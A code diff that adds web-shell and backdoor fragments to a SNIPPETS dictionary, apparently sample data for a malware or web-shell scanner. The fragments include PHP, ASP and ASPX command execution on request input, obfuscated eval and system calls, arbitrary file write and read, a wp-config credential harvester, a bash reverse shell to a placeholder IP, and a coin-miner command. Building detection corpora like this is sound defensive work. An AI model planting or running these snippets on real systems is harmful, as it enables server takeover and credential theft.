@@ -97,6 +97,37 @@ SNIPPETS: dict[str, bytes] = {
     "coldfusion_file_manager": b'<cffile action="write" file="#form.path#" output="#form.body#">',
     "node_exec_on_request_input": (b"const cp = require('child_process');\n"
                                    b"app.get('/x', (req, res) => cp.exec(req.query.c));\n"),
+    "perl_eval_decoded_blob": (b"#!/usr/bin/perl\n$code = 'cHJpbnQgMTs=';\n"
+                               b"sub b64decode { local($_) = @_; tr|A-Za-z0-9+/||cd; return $_; }\n"
+                               b"eval(b64decode($code));\n"),
+    "php_exec_function_chosen_by_name": b"<?php $f = 'passthru'; $f($c . ' 2>&1'); ?>",
+    "php_socket_reuse_shell": b"<?php system('./reuse ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']); ?>",
+    "php_eval_spelled_by_letters": b"<?php $g = 'E'.'v'.'a'.'l'; ?>",
+    "php_command_in_concatenation": (b"<?php $cmd = $_POST['cmd']; passthru('cd /tmp && ' . $cmd . ' 2>&1'); ?>"),
+    "php_mysql_plants_system_file": (b"<?php $q = \"select '#pragma namespace(x)' into dumpfile "
+                                     b"'c:/windows/system32/wbem/mof/x.mof'\"; mysql_query($q); ?>"),
+    "php_variable_function_on_request": b"<?php $k = str_rot13('flfgrz'); $k($_COOKIE['z']); ?>",
+    "php_exec_decoded_request": b"<?php $c = base64_decode($_POST['q']); exec($c . ' 2>&1', $out); ?>",
+    "php_upload_to_requested_path": b"<?php copy($_FILES['f']['tmp_name'], $_POST['to']); ?>",
+    "asp_execute_decoded_session_code": (b'<% if session("k")="" then:session("k")=dec(blob):end if:'
+                                         b'k=session("k"):execute k:function dec(s):for i=1 to len(s):'
+                                         b'dec=dec&chr(asc(mid(s,i,1))-1):next:end function %>'),
+    "asp_execute_request_into_variables": (b'<% For Each n In Request.Form\n'
+                                           b'execute ""&n&"=request.form("""&n&""")"\nNext %>'),
+    "asp_file_operation_on_request": (b'<% Set f = CreateObject("Scripting.FileSystemObject")\n'
+                                      b'f.DeleteFile Request.QueryString("p") %>'),
+    "aspx_packet_sniffer": (b'<%@ Page Language="C#" %><script runat="server">'
+                            b'var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);'
+                            b' s.IOControl(IOControlCode.ReceiveAll, on, off);</script>'),
+    "aspx_form_file_writer": (b'<%@ Page Language="C#" %><script runat="server">void Save() { var w = new StreamWriter('
+                              b'PathBox.Text); w.Write(BodyBox.Text); w.Close(); }</script>'),
+    "aspx_keyed_file_transfer": (b'<%@ Page Language="C#" %><script runat="server">const string KEY = "k1";\n'
+                                 b'void Page_Load() { if (Request.Params["key"] != KEY) return;\n'
+                                 b'Response.WriteFile(Request.Params["f"]); }</script>'),
+    "php_safe_mode_bypass_reader": (b"<?php $t = tempnam('/tmp', 'x'); copy('compress.zlib://' . $_GET['f'], $t);"
+                                    b" readfile($t); ?>"),
+    "php_config_harvester": (b"<?php foreach (file('/etc/passwd') as $l) { $u = explode(':', $l)[0];"
+                             b" @readfile(\"/home/$u/public_html/wp-config.php\"); } ?>"),
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
